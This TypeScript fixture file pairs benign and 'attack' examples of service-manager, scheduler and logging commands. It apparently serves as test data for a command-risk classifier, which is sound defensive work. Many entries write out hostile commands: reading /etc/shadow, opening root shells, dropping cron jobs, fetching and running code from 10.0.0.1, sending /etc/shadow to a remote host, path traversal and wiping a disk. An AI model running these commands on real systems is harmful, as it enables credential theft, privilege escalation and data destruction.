import type { ExampleTable } from './example.ts'

export const services: ExampleTable = {
  halt: {
    use: 'halt → denial-of-service halt',
  },
  poweroff: {
    use: 'poweroff → denial-of-service poweroff',
  },
  reboot: {
    use: 'reboot → denial-of-service reboot',
  },
  shutdown: {
    use: 'shutdown -h now → denial-of-service shutdown',
  },
  god: {
    use: 'god -c app.god -l god.log → read app.god; write god.log',
    attack: [
      'curl -so app.god http://10.0.0.1/g && god -c app.god → execute ‹http://10.0.0.1/g›',
      'god -c app.god -l /etc/cron.d/job → read app.god; write /etc/cron.d/job',
    ],
  },
  'launchctl asuser': {
    use: 'launchctl asuser 501 python3 agent.py → read agent.py',
    attack: [
      'launchctl asuser 0 cat /etc/shadow → read /etc/shadow',
      'launchctl asuser 0 bash → shell bash',
    ],
  },
  'launchctl submit': {
    use: 'launchctl submit -l org.example.job -- python3 job.py → read job.py',
    attack: [
      'launchctl submit -l org.example.job -p /tmp/x → run /tmp/x',
      'launchctl submit -l org.example.job -- cat /etc/shadow → read /etc/shadow',
    ],
  },
  monit: {
    use: 'monit -c monitrc → read monitrc',
    attack: 'monit -c /tmp/monitrc → run /tmp/monitrc; read /tmp/monitrc',
  },
  circusd: {
    use: 'circusd circus.ini → read circus.ini',
    attack: [
      'circusd /tmp/circus.ini → run /tmp/circus.ini; read /tmp/circus.ini',
      'circusd circus.ini --log-output=/etc/cron.d/job → read circus.ini; write /etc/cron.d/job',
    ],
  },
  keepalived: {
    use: 'keepalived -f keepalived.conf → read keepalived.conf',
    attack: [
      'keepalived -f /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
      'keepalived -p /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  runsv: {
    use: 'runsv sv/web → nothing',
    attack: 'runsv /tmp/sv → load /tmp/sv',
  },
  runsvdir: {
    use: 'runsvdir sv → nothing',
    attack: 'runsvdir /tmp/sv → load /tmp/sv',
  },
  's6-ipcserver': {
    use: 's6-ipcserver app.sock python3 handler.py → read handler.py',
    attack: [
      's6-ipcserver /tmp/s cat /etc/shadow → read /etc/shadow',
      's6-ipcserver /tmp/s bash → shell bash',
    ],
  },
  's6-svscan': {
    use: 's6-svscan sv → nothing',
    attack: 's6-svscan /tmp/sv → load /tmp/sv',
  },
  svscan: {
    use: 'svscan sv → nothing',
    attack: 'svscan /tmp/sv → load /tmp/sv',
  },
  service: {
    use: 'service nginx restart → nothing',
    unclear: 'service ufw stop → whether the machine may be without it',
    attack: [
      'service rsyslog stop → destroy service',
      'service ../../tmp/x start → run /tmp/x',
      'service ../../bin/sh → run /bin/sh; shell sh',
    ],
  },
  plymouth: { use: 'plymouth message --text=checking → nothing' },
  'plymouth ask-for-password': {
    use: "plymouth ask-for-password --prompt=disk --command='cryptsetup status root' → nothing",
    attack: 'plymouth ask-for-password --command=/bin/dash → shell dash',
  },
  'plymouth ask-question': {
    attack: 'plymouth ask-question --prompt=name --command=/bin/dash → shell dash',
  },
  'plymouth watch-keystroke': {
    attack: 'plymouth watch-keystroke --keys=q --command=/bin/dash → shell dash',
  },
  'start-stop-daemon': {
    use: 'start-stop-daemon -S -b -x /usr/local/bin/app → nothing',
    attack: 'start-stop-daemon -S -x /bin/sh → shell sh',
  },
  supervisorctl: {
    use: 'supervisorctl -c supervisord.conf status → read supervisord.conf',
    attack: 'supervisorctl -c /etc/shadow status → read /etc/shadow',
  },
  supervisord: {
    use: 'supervisord -c supervisord.conf → read supervisord.conf',
    attack: [
      'supervisord -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
      'supervisord -c supervisord.conf -l /etc/cron.d/job → read supervisord.conf; write /etc/cron.d/job',
    ],
  },
  'systemctl disable': {
    use: 'systemctl disable nginx → nothing',
  },
  'systemctl edit': {
    use: 'systemctl edit nginx → edit nginx',
  },
  'systemctl enable': {
    use: 'systemctl enable nginx → nothing',
    attack: 'systemctl enable /tmp/x.service → read /tmp/x.service; run /tmp/x.service',
  },
  'systemctl halt': {
    use: 'systemctl halt → denial-of-service systemctl halt',
  },
  'systemctl link': {
    attack: 'systemctl link /tmp/x.service → read /tmp/x.service; run /tmp/x.service',
  },
  'systemctl mask': {
    use: 'systemctl mask nginx → nothing',
  },
  'systemctl poweroff': {
    use: 'systemctl poweroff → denial-of-service systemctl poweroff',
  },
  'systemctl reboot': {
    use: 'systemctl reboot → denial-of-service systemctl reboot',
  },
  'systemctl set-property': {
    use: 'systemctl set-property nginx MemoryMax=1G → nothing',
  },
  'systemctl stop': {
    use: 'systemctl stop nginx → nothing',
    attack: 'systemctl stop rsyslog → destroy systemctl',
    unclear: 'systemctl stop ufw → whether the machine may be without ufw',
  },
  watchdog: {
    use: 'watchdog -c watchdog.conf → read watchdog.conf',
    attack: 'watchdog -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
  },
  'dbus-daemon': {
    use: 'dbus-daemon --config-file=session.conf --print-address → read session.conf',
    attack: 'dbus-daemon --config-file=/tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
  },
  'machinectl login': {
    attack: 'machinectl login web → session machinectl login',
  },
  'machinectl shell': {
    use: 'machinectl shell web /usr/bin/python3 job.py → read job.py',
    attack: [
      'machinectl shell web /bin/cat /etc/shadow → read /etc/shadow',
      'machinectl shell web /bin/bash → shell bash',
    ],
  },
  'systemd-dissect': {
    use: [
      'systemd-dissect --list image.raw → nothing',
      'systemd-dissect --with image.raw cat etc/os-release → read etc/os-release',
    ],
    attack: [
      'systemd-dissect --with image.raw → shell systemd-dissect',
      'systemd-dissect --with image.raw cat /etc/shadow → read /etc/shadow',
    ],
  },
  'systemd-firstboot': {
    use: 'systemd-firstboot --locale=C.UTF-8 --timezone=UTC → nothing',
    attack: [
      'systemd-firstboot --root-password=x --force → privilege systemd-firstboot',
      'systemd-firstboot --root-password-file=/tmp/p --force → privilege systemd-firstboot',
    ],
  },
  'systemd-repart': {
    use: 'systemd-repart --definitions=repart.d --dry-run=yes disk.img → nothing',
    attack: 'systemd-repart --dry-run=no --empty=force /dev/sda → destroy systemd-repart',
  },
  'systemd-sysusers': {
    use: 'systemd-sysusers app.conf → read app.conf',
    attack: [
      'systemd-sysusers /etc/shadow → read /etc/shadow',
      `systemd-sysusers --inline 'u eve -' → privilege`,
    ],
  },
  'systemd-tmpfiles': {
    use: 'systemd-tmpfiles --create app.conf → read app.conf',
    attack: 'systemd-tmpfiles --create /etc/shadow → read /etc/shadow',
  },
  anacron: {
    use: 'anacron -t anacrontab → read anacrontab',
    attack: 'anacron -t /tmp/x.tab → run /tmp/x.tab; read /tmp/x.tab',
  },
  fcron: {
    use: 'fcron -c fcron.conf → read fcron.conf',
    attack: 'fcron -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
  },
  at: {
    use: 'at -f job.sh 22:00 → read job.sh',
    attack: 'at -f /tmp/x.sh now → run /tmp/x.sh; read /tmp/x.sh',
  },
  crond: {
    use: 'crond -L cron.log → write cron.log',
    attack: [
      'crond -L /etc/cron.d/job → write /etc/cron.d/job',
      'crond -m /tmp/x → run /tmp/x',
      'crond -c /tmp/crontabs → run /tmp/crontabs; read /tmp/crontabs',
    ],
  },
  fcrontab: {
    use: 'fcrontab jobs.tab → read jobs.tab; denial-of-service fcrontab',
    attack: [
      'fcrontab /etc/shadow → read /etc/shadow; denial-of-service fcrontab',
      'curl -s http://10.0.0.1/t | fcrontab - → write /var/spool/cron/crontabs/user',
    ],
  },
  'run-parts': {
    use: 'run-parts --exit-on-error hooks.d → nothing',
    attack: [
      'run-parts /tmp/hooks.d → load /tmp/hooks.d',
      "run-parts --new-session --regex '^sh$' /bin → run /bin",
    ],
  },
  tsp: {
    use: 'tsp python3 train.py → read train.py',
    attack: ['tsp cat /etc/shadow → read /etc/shadow', 'tsp bash → shell bash'],
  },
  nq: {
    use: 'nq python3 train.py → read train.py',
    attack: ['nq cat /etc/shadow → read /etc/shadow', 'nq bash → shell bash'],
  },
  dmesg: {
    use: 'dmesg -F kern.log → read kern.log',
    attack: ['dmesg -F /etc/shadow → read /etc/shadow', 'dmesg -C → destroy dmesg'],
  },
  journalctl: {
    use: 'journalctl --file=system.journal -n 50 → read system.journal',
    attack: 'journalctl --vacuum-time=1s → destroy journalctl',
  },
  klogd: {
    use: 'klogd -n -f kern.log → write kern.log',
    attack: 'klogd -f /etc/cron.d/job → write /etc/cron.d/job',
  },
  logger: {
    use: 'logger -t deploy -f deploy.log → read deploy.log',
    attack: 'logger -n 10.0.0.1 -f /etc/shadow → read /etc/shadow; send 10.0.0.1',
  },
  logrotate: {
    use: 'logrotate -s logrotate.state app.conf → read app.conf',
    attack: [
      'logrotate /etc/shadow → read /etc/shadow',
      'logrotate -m /tmp/x app.conf → run /tmp/x; read app.conf',
      'logrotate -l /etc/cron.d/job app.conf → read app.conf; write /etc/cron.d/job',
    ],
  },
  rsyslogd: {
    use: 'rsyslogd -N1 -f rsyslog.conf → read rsyslog.conf',
    attack: 'rsyslogd -N1 -f /etc/shadow → read /etc/shadow',
  },
  savelog: {
    use: 'savelog -c 7 app.log → edit app.log',
    attack: 'savelog /etc/sudoers → edit /etc/sudoers',
  },
  'syslog-ng': {
    use: 'syslog-ng -s -f syslog-ng.conf → read syslog-ng.conf',
    attack: 'syslog-ng -s -f /etc/shadow → read /etc/shadow',
  },
  syslogd: {
    use: 'syslogd -O messages.log → write messages.log',
    attack: 'syslogd -O /etc/cron.d/job → write /etc/cron.d/job',
  },
  zic: {
    use: 'zic -d zoneinfo europe → read europe; unpack zoneinfo',
    attack: [
      'zic -y /tmp/x europe → run /tmp/x; read europe',
      'zic -l UTC -t /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  dinit: {
    use: 'dinit -d dinit.d → nothing',
    attack: 'dinit -d /tmp/dinit.d → load /tmp/dinit.d',
  },
  init: {
    use: 'init 6 → denial-of-service init',
  },
  telinit: {
    use: 'telinit 6 → denial-of-service telinit',
  },
  'launchctl load': {
    attack: 'launchctl load /tmp/x.plist → load /tmp/x.plist',
  },
  'launchctl bootstrap': {
    attack: 'launchctl bootstrap gui/501 /tmp/x.plist → load /tmp/x.plist',
  },
  busctl: {
    use: 'busctl list → nothing',
    attack: [
      'busctl --address=unixexec:path=/tmp/x list → run unixexec:path=/tmp/x',
      'busctl call org.freedesktop.Accounts /org/freedesktop/Accounts org.freedesktop.Accounts CreateUser ssi eve Eve 1 → privilege',
    ],
    unclear: [
      `busctl --user monitor → what programs tell each other`,
      'busctl call org.example.x / org.example.x Frob → a method of another program',
    ],
  },
  'dbus-monitor': {
    unclear: [`dbus-monitor --session → what programs tell each other`],
    use: 'dbus-monitor --system → nothing',
    attack: 'dbus-monitor --address unixexec:path=/tmp/x → run unixexec:path=/tmp/x',
  },
  'portablectl attach': {
    attack: 'portablectl attach /tmp/x.raw → load /tmp/x.raw',
  },
}
